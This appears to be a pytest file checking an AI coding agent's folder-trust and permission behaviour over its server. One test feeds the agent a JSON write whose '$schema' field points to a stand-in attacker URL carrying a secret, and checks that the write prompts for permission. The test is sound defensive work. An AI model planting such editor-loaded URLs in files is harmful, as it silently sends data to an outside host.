"""`agent/trust/*` over the real server: what a decision changes at once, and what a later change takes back."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tests.guarantees.conftest import new_world
from tests.guarantees.world import World, fresh, refused, turn
from tests.harness.fake_provider import text, tool, usage

pytestmark = pytest.mark.process


@pytest.fixture
async def world(tmp_path: Path) -> AsyncIterator[World]:
    async with new_world(tmp_path) as made:
        made.configure(permissions='mode = "full-auto"')
        yield made


async def writes(world: World, client, name: str) -> bool:
    """Whether a run may write a file now."""
    world.fake.push([tool("write", {"file_path": name, "content": "x"}), usage(1, 1)], [text("done"), usage(1, 1)])
    assert (await turn(client))[1]["stopReason"] == "end_turn"
    world.fake.turns.clear()
    return (world.project / name).exists()


async def test_trust_takes_effect_at_once_and_ends_when_the_file_changes(world: World):
    path = world.write(".lsp-agent.toml", '[permissions]\ndeny = ["write"]\n')
    client = await world.start()
    root = world.project.as_uri()
    found = await client.request("agent/trust/get", {})
    assert (found["root"], found["trusted"], found["files"]) == (root, False, [path.as_uri()])
    assert await writes(world, client, "before.txt")
    assert (await client.request("agent/trust/set", {"root": root, "trusted": True}))["trusted"] is True
    assert not await writes(world, client, "trusted.txt")
    path.write_text("[permissions]\ndeny = []\n")
    assert (await client.request("agent/trust/get", {"root": root}))["changed"] == [path.as_uri()]
    assert await writes(world, client, "changed.txt")
    notices = [event["update"]["message"] for event in client.events(kind="notice")]
    assert any("changed since you trusted" in message for message in notices)
    await client.request("agent/trust/set", {"root": root, "trusted": False})
    assert (await client.request("agent/trust/get", {"root": root}))["trusted"] is False


async def test_CF_10_trust_outlives_the_server_and_only_a_folder_of_the_workspace_can_have_it(world: World):
    world.write(".lsp-agent.toml", '[permissions]\ndeny = ["write"]\n')
    client = await world.start()
    for root in ("file:///", world.home.as_uri(), "nonsense"):
        error = await refused(client, "agent/trust/set", {"root": root, "trusted": True})
        assert (error.code, error.data["path"]) == (-32602, "root")
    await client.request("agent/trust/set", {"root": world.project.as_uri(), "trusted": True})
    assert await client.shutdown() == 0
    again = await world.start()
    assert (await again.request("agent/trust/get", {}))["trusted"] is True
    assert not await writes(world, again, "no.txt")


async def test_CF_14_in_full_auto_a_new_address_that_the_editor_would_load_asks(world: World):
    client = await world.start()
    content = '{"$schema": "https://evil.example/?secret"}\n'
    world.fake.push([tool("write", {"file_path": "data.json", "content": content}), usage(1, 1)])
    run_id = fresh()
    result = await client.request("agent/run", {"runId": run_id, "prompt": "write"})
    await client.until(
        lambda m: (m.get("params") or {}).get("update", {}).get("sessionUpdate") == "permission_requested"
    )
    await client.request("agent/cancel", {"sessionId": result["sessionId"]})
    await client.until_complete(run_id)
    assert not (world.project / "data.json").exists()
    assert await writes(world, client, "plain.txt")
